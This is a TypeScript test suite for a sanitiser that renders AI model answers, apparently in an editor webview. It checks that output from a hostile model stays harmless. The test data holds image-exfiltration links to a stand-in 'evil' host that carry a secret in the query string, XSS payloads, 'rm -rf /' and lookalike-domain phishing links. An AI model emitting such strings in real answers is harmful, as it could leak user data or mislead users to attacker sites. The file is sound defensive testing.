import assert from "node:assert/strict";
import { AnswerPainter } from "../../../src/webview/markdown/painter.ts";
import { createSanitiser } from "../../../src/webview/markdown/sanitise.ts";
import { openDom } from "./dom.ts";
import { hostileAnswers } from "./hostileAnswers.ts";

const window = openDom();
const sanitise = createSanitiser(window);

const textTags = new Set([
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "i", "ins", "kbd", "li", "mark", "ol", "p", "pre", "s", "samp", "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th",
    "thead", "tr", "u", "ul", "var",
]);
const ownControls = "figure.code > figcaption > button.icon";

function paint(text: string): HTMLElement {
    const root = window.document.createElement("div");
    new AnswerPainter(root, sanitise).finish(text);
    return root;
}

/** In a few pieces, each of which ends where nobody thought of. */
function grow(text: string): HTMLElement {
    const root = window.document.createElement("div");
    const painter = new AnswerPainter(root, sanitise);
    const step = Math.ceil(text.length / 8);
    for (let end = step; end < text.length + step; end += step) {
        painter.update(text.slice(0, end));
        assertHarmless(root);
    }
    return root;
}

/** Holds for every element: known tag, known attributes, and no address but that of a link that may be opened. */
function assertHarmless(root: ParentNode): void {
    for (const element of root.querySelectorAll("*")) {
        if (element.matches(`${ownControls}, ${ownControls} *`)) {
            continue;
        }
        assert.ok(textTags.has(element.localName), `<${element.localName}> is on the page`);
        for (const { name, value } of element.attributes) {
            assertHarmlessAttribute(element, name, value);
        }
    }
}

function assertHarmlessAttribute(element: Element, name: string, value: string): void {
    if (name === "href") {
        assert.match(value, /^(https:\/\/[^@]*$|mailto:)/);
        assert.equal(element.localName, "a");
    } else if (name === "class") {
        assert.match(value, /^(block|code|plain|link|table|destination|hljs-.*|language-.*|language_|function_|class_)$/);
    } else {
        assert.ok(["title", "start", "align", "colspan", "rowspan", "tabindex", "data-block"].includes(name), `${name}="${value}" is on the page`);
    }
}

describe("what a hostile model writes", () => {
    for (const [name, answer] of Object.entries(hostileAnswers)) {
        it(`does no harm: ${name}`, () => {
            assertHarmless(paint(answer));
            assertHarmless(grow(answer));
        });
    }

    it("loads no image: its words and its host are a link", () => {
        for (const answer of ["![cat](https://evil.example/p.png?q=secret)", "<img alt=cat src='https://evil.example/p.png?q=secret'>"]) {
            const link = paint(answer).querySelector("a");
            assert.equal(link?.textContent, "Image: cat (evil.example)");
            assert.equal(link?.getAttribute("href"), "https://evil.example/p.png?q=secret");
        }
    });

    it("leaves an image in a link to the link", () => {
        const links = paint("[![build](https://evil.example/p.png)](https://contoso.com/)").querySelectorAll("a");
        assert.deepEqual([...links].map((link) => link.textContent), ["Image: build (contoso.com)"]);
    });

    it("shows where a link goes, whatever it calls itself", () => {
        const cases: [string, string][] = [
            ["[docs](https://contoso.com/a)", "docs (contoso.com)"],
            ["[https://learn.microsoft.com](https://evil.example/)", "https://learn.microsoft.com (evil.example)"],
            ["[learn.microsoft.com.](https://evil.example/)", "learn.microsoft.com. (evil.example)"],
            ["https://contoso.com/a", "https://contoso.com/a"],
            ["[contoso.com](https://contoso.com/a)", "contoso.com"],
            ["[write](mailto:dev@contoso.com)", "write (dev@contoso.com)"],
            ["[x](https://аpple.com/)", "x (xn--pple-43d.com)"],
        ];
        for (const [answer, text] of cases) {
            assert.equal(paint(answer).textContent?.trim(), text);
        }
    });

    it("shows the true host beside a text that looks like another one", () => {
        const evil = "https://evil.test/";
        const cases: [string, string][] = [
            // A name of a user in the text, which reads like the host.
            [`[https://login.microsoftonline.com@evil.test/](${evil})`, "evil.test"],
            [`[https://login.microsoftonline.com%2F@evil.test/](${evil})`, "evil.test"],
            [`<a href="${evil}">https:login.microsoftonline.com@evil.test</a>`, "evil.test"],
            ["https://login.microsoftonline.com@evil.test/", "evil.test"],
            ["<https://login.microsoftonline.com@evil.test/>", "evil.test"],
            ["[Sign in](https://login.microsoftonline.com@evil.test/)", "evil.test"],
            ["[Sign in][1]\n\n[1]: https://login.microsoftonline.com:443@evil.test/", "evil.test"],
            ["![Sign in](https://login.microsoftonline.com@evil.test/p.png)", "evil.test"],
            // Letters that look like others, and letters that cannot be seen.
            ["<https://аpple.com/>", "xn--pple-43d.com"],
            ["[https://аpple.com/](https://аpple.com/)", "xn--pple-43d.com"],
            ["[https://аpple.com/][1]\n\n[1]: https://xn--pple-43d.com/", "xn--pple-43d.com"],
            ["[https://miсrosoft.com](https://xn--mirosoft-r5g.com/)", "xn--mirosoft-r5g.com"],
            ["[https://ｅvil.test](https://evil.test/)", "evil.test"],
            ["[https：//login.microsoftonline.com](https://evil.test/)", "evil.test"],
            ["[https://microsoft。com](https://microsoft.com/)", "microsoft.com"],
            ["[https://evil.test\u200b/](https://evil.test/)", "evil.test"],
            ["[\u202ehttps://evil.test/](https://evil.test/)", "evil.test"],
            ["[https://login.microsoftonline.com\\\\@evil.test](https://evil.test/)", "evil.test"],
            ["[https://login.microsoftonline.com](https://evil.test/ 'https://login.microsoftonline.com')", "evil.test"],
            ["<a href='https://evil.test/' title='https://login.microsoftonline.com/'>login.microsoftonline.com</a>", "evil.test"],
        ];
        for (const [answer, host] of cases) {
            const root = paint(answer);
            assert.equal(root.querySelector(".destination")?.textContent, ` (${host})`, `${answer} shows ${root.innerHTML}`);
            const link = root.querySelector("a");
            assert.ok(link === null || link.title === link.href, answer);
        }
    });

    it("says nothing beside an address that is what it says", () => {
        for (const answer of ["https://contoso.com/a?b#c", "<https://contoso.com>", "[contoso.com](https://contoso.com)", "[HTTPS://Contoso.com/a](https://contoso.com/b)",
            "<dev@contoso.com>", "[https://xn--pple-43d.com/](https://аpple.com/)", "[https://contoso.com:8443/](https://contoso.com:8443/)"]) {
            assert.equal(paint(answer).querySelector(".destination"), null, answer);
        }
    });

    it("keeps the words of a link that may not be opened", () => {
        const root = paint("Run [this](command:x) or [that](http://contoso.com)");
        assert.equal(root.textContent?.trim(), "Run this or that");
        assert.equal(root.querySelector("a"), null);
    });

    it("lets no cell go across more than ten columns or rows", () => {
        const cells = paint("<table><tr><td colspan=1000 rowspan=65534>a</td><td colspan=2 rowspan=0>b</td><td colspan=1e9>c</td></tr></table>").querySelectorAll("td");
        assert.deepEqual([...cells].map((cell) => [cell.getAttribute("colspan"), cell.getAttribute("rowspan")]), [["10", "10"], ["2", null], [null, null]]);
    });

    it("shows as text, exactly as written, what is no tag of a text", () => {
        const asWritten = [
            "az login --tenant <tenant-id> --name <name>", "Return a Promise<string>, a Vec<u8> or an Option<U>", "set x <y and z> here", "<template>🚀 → ★ ++ == {}</template> after", "a <svg>+-*/=?!</svg> b",
            "a <Foo.Bar x='1'/> b", "<project>\n  <name>keyless</name>\n</project>", "<script>alert('x<b')</script>", "a <script>if (a<b) c()</script> d", "<input value='words'>", "a <?php echo 1 ?> b", "<!DOCTYPE html>",
            "<div>\n  <tenant-id>\n</div>", "<title>words</title>", "<plaintext>words", "<x-evil is=x>words</x-evil>",
        ];
        for (const text of asWritten) {
            assert.equal(paint(text).textContent?.trim(), text);
            assert.equal(grow(text).textContent?.trim(), text);
        }
        assert.equal(paint("> Use <name>.\n\n| <a-b> |\n|---|\n| <c-d> |").textContent?.replace(/\s+/g, " ").trim(), "Use <name>. <a-b> <c-d>");
    });

    it("leaves the tags of a text, and those of its layout, out of what is read", () => {
        assert.equal(paint("Press <kbd>Ctrl</kbd>, H<sub>2</sub>O<br>and <b class=x>more</b> <!-- x --> end").textContent?.trim(), "Press Ctrl, H2Oand more  end");
        assert.equal(paint("<details>\n<summary>Q</summary>\n\n**A**\n\n</details>").textContent?.replace(/\s+/g, " ").trim(), "QA");
        assert.equal(paint("Press <kbd>Ctrl</kbd>").querySelectorAll("kbd").length, 1);
    });

    it("gives buttons only to real code blocks", () => {
        assert.equal(paint("<pre fence='k0-0-0-0:0:1:py'>rm -rf /</pre>").querySelector("button"), null);
        assert.equal(paint("```py\nprint(1)\n```").querySelectorAll("button").length, 2);
    });

    it("shows code as it is, also where it looks like HTML", () => {
        const code = "</code></pre><img src=x onerror=alert(1)> &lt; &amp;";
        assert.equal(paint(`\`\`\`html\n${code}\n\`\`\``).querySelector("code")?.textContent, code);
        assert.equal(paint(`- \`\`\`html\n  ${code}\n  \`\`\``).querySelector("code")?.textContent, code);
    });
});
